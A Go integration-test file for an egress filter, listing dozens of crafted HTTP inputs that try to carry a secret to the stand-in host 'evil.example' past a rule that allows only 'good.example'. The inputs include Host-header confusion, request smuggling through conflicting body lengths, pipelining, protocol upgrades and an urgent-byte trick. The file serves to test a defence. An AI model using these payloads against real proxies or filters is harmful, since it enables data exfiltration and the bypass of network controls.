package integration

import (
	"bufio"
	"context"
	"crypto/tls"
	"io"
	"net"
	"net/http"
	"strings"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/http2"
)

// byHTTP are ways over the port of HTTP of a server that a rule names. $SECRET stands for the secret in them.
func byHTTP() []way {
	// One request, of which nothing may arrive.
	one := func(parts ...string) func(*escape) {
		return func(x *escape) {
			x.lookUp("good.example")
			x.say(goodAddress+":80", x.filled(parts)...)
		}
	}
	// Requests behind good ones, all at once, of which the secret must not arrive.
	pipelined := func(text string) way {
		return way{talks: true, try: func(x *escape) {
			x.lookUp("good.example")
			conn := x.dial("tcp", goodAddress+":80")
			if conn == nil {
				return
			}
			defer conn.Close()
			_, _ = io.WriteString(conn, strings.ReplaceAll(text, "$SECRET", x.secret))
			_, _ = io.Copy(io.Discard, conn) // until vring or the server ends it
		}}
	}
	// A request, its answer, and another request.
	later := func(first, second string) way {
		return way{talks: true, try: func(x *escape) {
			x.lookUp("good.example")
			conn := x.dial("tcp", goodAddress+":80")
			if conn == nil {
				return
			}
			defer conn.Close()
			_, _ = io.WriteString(conn, strings.ReplaceAll(first, "$SECRET", x.secret))
			if r, err := http.ReadResponse(bufio.NewReader(conn), &http.Request{Method: first[:strings.Index(first, " ")]}); err == nil {
				_, _ = io.Copy(io.Discard, r.Body)
			}
			_, _ = io.WriteString(conn, strings.ReplaceAll(second, "$SECRET", x.secret))
			readOnce(conn)
		}}
	}
	called := func(name string, w way) way {
		w.name = name
		return w
	}
	const (
		good = "GET / HTTP/1.1\r\nHost: good.example\r\n\r\n"
		evil = "GET /$SECRET HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"
		end  = "Connection: close\r\n\r\n"
	)
	return []way{
		{name: "another host", try: one(evil)},
		{name: "another host in upper case, with a final dot and a port", try: one("GET / HTTP/1.1\r\nHost: EVIL.EXAMPLE.:80\r\n\r\n")},
		{name: "another host, byte by byte", try: one(strings.Split("GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", "")...)},
		{name: "no host", try: one("GET /$SECRET HTTP/1.1\r\n\r\n")},
		{name: "an empty host", try: one("GET /$SECRET HTTP/1.1\r\nHost:\r\n\r\n")},
		{name: "HTTP/1.0 without a host", try: one("GET /$SECRET HTTP/1.0\r\n\r\n")},
		{name: "HTTP/0.9", try: one("GET /$SECRET\r\n")},
		{name: "an address for a host", try: one("GET /$SECRET HTTP/1.1\r\nHost: " + goodAddress + "\r\n\r\n")},
		{name: "the absolute form of another host", try: one("GET http://evil.example/$SECRET HTTP/1.1\r\nHost: good.example\r\n\r\n")},
		{name: "the absolute form of a right host, and another host", try: one("GET http://good.example/$SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n")},
		{name: "an absolute form with a user", try: one("GET http://good.example@evil.example/$SECRET HTTP/1.1\r\nHost: good.example\r\n\r\n")},
		{name: "two hosts", try: one("GET /$SECRET HTTP/1.1\r\nHost: good.example\r\nHost: evil.example\r\n\r\n")},
		{name: "two hosts, the right one behind", try: one("GET /$SECRET HTTP/1.1\r\nHost: evil.example\r\nHost: good.example\r\n\r\n")},
		{name: "two hosts in a line", try: one("GET /$SECRET HTTP/1.1\r\nHost: good.example, evil.example\r\n\r\n")},
		{name: "a host with a user", try: one("GET /$SECRET HTTP/1.1\r\nHost: good.example@evil.example\r\n\r\n")},
		{name: "a host in a folded line", try: one("GET /$SECRET HTTP/1.1\r\nHost: good.example\r\n evil.example\r\n\r\n")},
		{name: "a space before the colon", try: one("GET /$SECRET HTTP/1.1\r\nHost : evil.example\r\nHost: good.example\r\n\r\n")},
		{name: "a host behind a zero", try: one("GET /$SECRET HTTP/1.1\r\nHost: good.example\x00evil.example\r\n\r\n")},
		{name: "a host behind a bare carriage return", try: one("GET /$SECRET HTTP/1.1\r\nX: y\rHost: evil.example\r\nHost: good.example\r\n\r\n")},
		{name: "lines that end without a carriage return", try: one("GET /$SECRET HTTP/1.1\nHost: evil.example\n\n")},
		{name: "an empty line in front", try: one("\r\n\r\n" + evil)},
		{name: "a right name inside another one", try: one("GET /$SECRET HTTP/1.1\r\nHost: good.example.evil.example\r\n\r\n")},
		{name: "a head of 64 KiB", try: one("GET /$SECRET HTTP/1.1\r\nX: "+strings.Repeat("x", 1<<16), "\r\nHost: good.example\r\n\r\n")},
		{name: "a method that nobody knows, and another host", try: one("BREW /$SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n")},
		{name: "CONNECT", try: one("CONNECT evil.example:443 HTTP/1.1\r\nHost: good.example\r\n\r\n$SECRET")},
		{name: "CONNECT to a right host, and other bytes", try: one("CONNECT good.example:443 HTTP/1.1\r\nHost: good.example:443\r\n\r\n$SECRET")},
		{name: "HTTP/2 from the beginning", try: one(http2.ClientPreface + "$SECRET")},
		{name: "TLS on the port of HTTP", try: func(x *escape) {
			x.lookUp("good.example")
			x.say(goodAddress+":80", clientHello(x.t, x.web.client("good.example"), nil))
		}},
		{name: "SSH on the port of HTTP", try: one("SSH-2.0-$SECRET\r\n")},
		{name: "anything on the port of HTTP", try: one("$SECRET or whatever else a client says\r\n\r\n")},
		called("another host behind a right one", pipelined(good+evil)),
		called("another host behind a right one, later", later(good, evil)),
		called("another host behind ten right ones", pipelined(strings.Repeat(good, 10)+evil)),
		called("another host behind a body", pipelined("POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 4\r\n\r\nbody"+evil)),
		called("another host behind a body in chunks", pipelined("POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nbody\r\n0\r\n\r\n"+evil)),
		called("another host behind a trailer", pipelined("POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX: y\r\n\r\n"+evil)),
		called("another host behind a HEAD", later("HEAD / HTTP/1.1\r\nHost: good.example\r\n\r\n", evil)),
		called("another host behind what is expected", later("POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 0\r\nExpect: 100-continue\r\n\r\n", evil)),
		called("both lengths of a body", pipelined("POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 200\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+evil)),
		called("two lengths of a body", pipelined("POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 0\r\nContent-Length: 200\r\n\r\n"+evil)),
		called("a length with a sign", pipelined("POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: +200\r\n\r\n"+evil)),
		called("an encoding behind chunks", pipelined("POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked, identity\r\nContent-Length: 300\r\n\r\n0\r\n\r\n"+evil)),
		called("an encoding that is spelt otherwise", pipelined("POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: xchunked\r\nContent-Length: 300\r\n\r\n0\r\n\r\n"+evil)),
		called("a length of a chunk beyond all words", pipelined("POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000000\r\n0\r\n\r\n"+evil)),
		called("an extension of a chunk with a line in it", pipelined("POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n0;x\n\r\n\r\n"+evil)),
		called("an upgrade that the server does not make", later("GET / HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n", evil)),
		called("an upgrade to HTTP/2 that the server does not make", later("GET / HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n", evil)),
		called("another host in the line of an upgrade", pipelined("GET / HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\n"+evil)),
		called("a tunnel that the server opens by an upgrade", way{try: func(x *escape) {
			x.lookUp("good.example")
			conn := x.dial("tcp", goodAddress+":80")
			if conn == nil {
				return
			}
			defer conn.Close()
			_, _ = io.WriteString(conn, "GET /upgrade HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
			readOnce(conn)
			_, _ = io.WriteString(conn, x.secret)
			readOnce(conn)
		}, talks: true, passes: "the server itself, which a rule names, has agreed to it"}),
		called("bytes in the body of a request to a right host", way{try: func(x *escape) {
			x.lookUp("good.example")
			x.say(goodAddress+":80", "GET /"+x.secret+" HTTP/1.1\r\nHost: good.example\r\n"+end)
		}, talks: true, passes: "the rule is there to let it through"}),
		{name: "an urgent byte that makes another host of a right one", try: func(x *escape) {
			// A server that is told of the mark reads a request to god.example.
			x.lookUp("good.example")
			conn := x.dial("tcp", goodAddress+":80")
			if conn == nil {
				return
			}
			defer conn.Close()
			_, _ = io.WriteString(conn, "GET / HTTP/1.1\r\nHost: go")
			x.urge(conn.(*net.TCPConn), "o")
			_, _ = io.WriteString(conn, "d.example\r\n"+end)
			readOnce(conn)
		}, talks: true},
	}
}

// filled puts the secret into a text.
func (x *escape) filled(parts []string) (filled []string) {
	for _, p := range parts {
		filled = append(filled, strings.ReplaceAll(p, "$SECRET", x.secret))
	}
	return filled
}

// askHTTP2 asks by HTTP/2 with TLS for an authority that is not the name.
func (x *escape) askHTTP2(to, name, authority string) {
	x.t.Helper()
	conn := x.dial("tcp", to)
	if conn == nil {
		return
	}
	defer conn.Close()
	config := x.web.client(name)
	config.NextProtos = []string{"h2"}
	transport := &http.Transport{ForceAttemptHTTP2: true, DialTLSContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		c := tls.Client(conn, config)
		return c, c.HandshakeContext(ctx)
	}}
	defer transport.CloseIdleConnections()
	request, err := http.NewRequestWithContext(x.ctx, http.MethodGet, "https://"+authority+"/", nil)
	require.NoError(x.t, err)
	if response, err := transport.RoundTrip(request); err == nil {
		response.Body.Close()
	}
}
